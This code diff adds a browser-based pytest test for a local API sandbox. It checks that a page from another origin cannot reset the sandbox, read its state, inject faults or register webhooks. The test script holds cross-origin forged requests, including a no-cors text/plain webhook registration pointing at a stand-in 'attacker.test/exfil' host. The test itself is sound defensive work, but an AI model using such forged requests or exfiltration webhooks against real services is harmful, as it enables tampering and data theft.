@@ -19,6 +19,8 @@ import json
 import os
 import re
 import shutil
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -299,3 +301,59 @@ def test_docs_run_in_swagger_ui_with_their_examples(page, server, box, screensho
     page.goto(server.base_url + "/__sandbox/docs/appx")
     page.wait_for_selector("#no-spec:not([hidden])")
     assert "No spec yet" in page.locator("#no-spec").inner_text()
+
+
+ATTACKS = """async (base) => {
+  const tried = {};
+  const attempt = async (name, url, init) => {
+    try { const r = await fetch(base + url, init); tried[name] = r.type === "opaque" ? "opaque" : r.status; }
+    catch (error) { tried[name] = "blocked"; }
+  };
+  await attempt("read state", "/__sandbox/state", {});
+  await attempt("reset", "/__sandbox/reset", {method: "POST", mode: "no-cors"});
+  await attempt("webhook text/plain", "/__sandbox/webhooks", {method: "POST", mode: "no-cors",
+    headers: {"Content-Type": "text/plain"}, body: JSON.stringify({api: "slyk", url: "http://attacker.test/exfil"})});
+  await attempt("fault untyped blob", "/__sandbox/faults", {method: "POST", mode: "no-cors",
+    body: new Blob([JSON.stringify({api: "*", status: 503})])});
+  await attempt("fault as JSON", "/__sandbox/faults", {method: "POST", headers: {"Content-Type": "application/json"},
+    body: JSON.stringify({api: "*", status: 503})});
+  await attempt("an API", "/appx/api/v1/orders/15", {headers: {"Authorization": "Bearer page"}});
+  return tried;
+}"""
+
+
+class AttackerPage(BaseHTTPRequestHandler):
+    def do_GET(self):
+        body = b"<!doctype html><title>elsewhere</title>"
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):
+        pass
+
+
+def test_a_page_of_another_origin_can_call_the_apis_but_not_steer_the_sandbox(browser, server):
+    """What the issue tried as an attacker's page, in a real browser: nothing it sends changes the sandbox."""
+    box = server.app.extensions["sandbox"]
+    box.store.reset()
+    # A real server on loopback (a page Playwright's route() made up counts as public, and Chromium's local
+    # network protection alone would block it, hiding what the sandbox does); localhost is another origin
+    # than the sandbox's 127.0.0.1.
+    elsewhere = ThreadingHTTPServer(("127.0.0.1", 0), AttackerPage)
+    threading.Thread(target=elsewhere.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
+    context = browser.new_context()
+    try:
+        page = context.new_page()
+        page.goto(f"http://localhost:{elsewhere.server_address[1]}/")
+        tried = page.evaluate(ATTACKS, server.base_url)
+    finally:
+        context.close()
+        elsewhere.shutdown()
+        elsewhere.server_close()
+    assert tried["an API"] == 200, tried                 # the APIs keep CORS for every page
+    assert tried["read state"] == "blocked" and tried["fault as JSON"] == "blocked", tried
+    assert box.webhooks.subscriptions("default") == [] and box.faults.rules("default") == [], tried
+    assert [entry.path for entry in box.journal.entries("default")][-1] == "/appx/api/v1/orders/15"
